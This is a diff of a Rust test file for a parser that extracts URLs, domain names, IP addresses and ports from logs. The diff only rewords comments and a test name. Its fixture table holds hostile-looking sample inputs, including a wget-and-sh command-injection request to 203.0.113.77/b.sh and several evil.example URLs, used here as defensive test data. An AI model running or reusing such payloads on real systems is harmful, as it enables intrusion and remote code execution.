@@ -40,7 +40,7 @@ fn spelt(observable: Observable<'_>) -> String {
     }
 }
 
-/// Receives everything, and keeps nothing.
+/// Receives everything and keeps nothing.
 struct Nothing(usize);
 
 impl Visitor for Nothing {
@@ -156,10 +156,10 @@ fn values() -> impl Strategy<Value = String> {
 proptest! {
     #![proptest_config(ProptestConfig::with_cases(400))]
 
-    /// Whichever characters are escaped, and how: what is seen is what they decode to, for any
-    /// chunk borders, and in both ways.
+    /// Whichever characters are escaped, and in whatever way: the observables are those of the
+    /// decoded text, for any chunk borders, on both paths.
     #[test]
-    fn nests_stand_for_what_is_in_them(
+    fn nested_escapes_decode_to_their_contents(
         pieces in prop::collection::vec(values(), 1..12),
         ways in prop::collection::vec((0..40u8, prop::sample::select(vec![1usize, 2, 3, 4])), 400),
         cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..3),
@@ -196,7 +196,7 @@ proptest! {
     }
 }
 
-/// Each notation: what is seen, and the text there.
+/// For each notation, the observable and its text.
 const KINDS: &[(&str, &str, &str)] = &[
     (r#"{"u":"http\u003a//evil.example/g"}"#, "LogText Url(", r"http\u003a//evil.example/g"),
     (r#"x\\nevil.example"#, "Name(", "evil.example"),
@@ -230,7 +230,7 @@ const KINDS: &[(&str, &str, &str)] = &[
     ("add:2001:db8:bad::5", "Address(2001:db8:bad::5, None", "2001:db8:bad::5"),
     ("src:::1", "Address(::1, None", "::1"),
     ("a 2001:db8:bad:1:2:3:4:5:443 b", "Some(443)", "2001:db8:bad:1:2:3:4:5"),
-    // A comma is a part of a URL, or ends it.
+    // A comma is part of a URL, or ends it.
     ("x,http://evil.example/g.php,200", "Url(http://evil.example/g.php)", "http://evil"),
     ("x,http://evil.example/g.php,200", "Url(http://evil.example/g.php,200)", "http://evil"),
     ("x;http://evil.example/g,h?a=1&b=2;200", "Url(http://evil.example/g,h?a=1&b=2)", "http:"),
@@ -239,7 +239,7 @@ const KINDS: &[(&str, &str, &str)] = &[
     ("x,/g.php,200", "UrlPath(/g.php)", "/g.php"),
     ("url=http://evil.example/g.php^x=y", "Url(http://evil.example/g.php)", "http://evil"),
     (r"x,http:\/\/evil.example\/g.php,200", "Url(http://evil.example/g.php)", "http:"),
-    // What may belong to a URL, or follow it.
+    // Characters that may belong to a URL or follow it.
     ("x http://203.0.113.77/x/bin.sh+-O+a", "Url(http://203.0.113.77/x/bin.sh)", "http:"),
     ("GET /?c=wget+http://203.0.113.77/b.sh;sh", "Url(http://203.0.113.77/b.sh)", "http:"),
     ("x http://203.0.113.77/b.sh%20-O", "Url(http://203.0.113.77/b.sh)", "http:"),
@@ -275,12 +275,12 @@ const KINDS: &[(&str, &str, &str)] = &[
     ("请evil.example，", "Name(evil.example)", "evil"),
     ("见evil.example的", "Name(evil.example)", "evil"),
     ("访问evil.example。谢谢", "Name(evil.example)", "evil"),
-    // As tcpdump prints endpoints.
+    // Endpoints as printed by tcpdump.
     ("IP 192.0.2.10.50112 > 203.0.113.9.8443: Flags [S]", "(203.0.113.9, Some(8443))", "203"),
     ("IP 192.0.2.10.50112 > 203.0.113.9.8443: Flags [S]", "(192.0.2.10, Some(50112))", "192"),
     ("IP6 2001:db8::1.53 > 2001:db8:bad::9.8443: Flags", "(2001:db8:bad::9, Some(8443))", "2001"),
     ("IP6 2001:db8::1.53 > 2001:db8:bad::9.8443: Flags", "(2001:db8::1, Some(53))", "2001"),
-    // Backslashes in place of slashes.
+    // Backslashes instead of slashes.
     (r"GET http://evil.example\g.php HTTP/1.1", r"Url(http://evil.example/g.php)", "http:"),
     (r"GET http://evil.example\news.php", r"Url(http://evil.example/news.php)", "http:"),
     (r"GET http://evil.example/a\b\g.php", r"Url(http://evil.example/a/b/g.php)", "http:"),
@@ -325,7 +325,7 @@ fn every_kind() {
     }
 }
 
-/// What is not a value, whatever it looks like.
+/// Text that looks like a value but is not one.
 #[test]
 fn no_values() {
     for (text, what) in [
